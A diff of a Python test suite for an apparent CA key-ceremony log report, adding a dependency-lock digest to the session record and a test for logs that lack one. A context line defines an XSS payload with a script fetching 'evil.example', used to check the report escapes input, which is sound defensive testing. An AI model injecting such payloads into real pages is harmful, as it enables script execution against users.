@@ -27,13 +27,15 @@ SK = Ed25519PrivateKey.from_private_bytes(b"\x05" * 32)
 PUB = SK.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
 T = "2026-11-29T10:00:00Z"
 DIGEST = "a3" * 32
+LOCK = "e7" * 32  # the lock file's digest, as signer --version prints it
 HOSTILE = '<img src=x onerror=alert(1)><script>fetch("http://evil.example/")</script>'
 
 
 def build_log(path: Path) -> CeremonyLog:
     log = CeremonyLog.open(path, ORIGIN, create=True)
     log.append("appliance.init", {"rehearsal": True, "token": "hier"}, T)
-    log.append("session.open", {"version": "0.1.0", "rehearsal": True, "share_indices": [1, 3],
+    log.append("session.open", {"version": "0.1.0", "lock_sha256": LOCK,
+                                "rehearsal": True, "share_indices": [1, 3],
                                 "token": {"label": "hier", "serial": "42", "model": "SoftHSM"},
                                 "interfaces_up": ["eth0"]}, T)
     log.append("ca.created", {"ca": "class1", "kind": "sub", "issuer": "root", "serial": "1f",
@@ -93,7 +95,20 @@ def test_report_shows_the_facts(report_html):
     assert "name.unverified \u00d72" in html and "ext.ca \u00d71" in html
     assert re.search(r'id="issued">1<', html) and re.search(r'id="refused">2<', html)
     assert "1, 3" in html  # the custodians' share indices of the session
+    assert LOCK in html and digest_words(LOCK) in html  # the software's dependency lock
     assert "d6" * 32 in html and "b4" * 32 in html
+
+
+def test_a_session_that_recorded_no_lock_says_so(tmp_path):
+    # Logs written before sessions recorded the lock digest.
+    log = CeremonyLog.open(tmp_path / "ceremony.jsonl", ORIGIN, create=True)
+    log.append("session.open", {"version": "0.1.0", "rehearsal": True}, T)
+    log.append("session.close", {}, T)
+    log.checkpoint(T, ORIGIN, PUB, SK.sign)
+    audit = audit_verify(log.path, PUB, origin=ORIGIN)
+    out = tmp_path / "report.html"
+    write_report(out, log.path, audit, appliance=ORIGIN, rehearsal=False)
+    assert "<td>not recorded</td>" in out.read_text(encoding="utf-8")
 
 
 def test_report_is_self_contained_and_escaped(report_html):
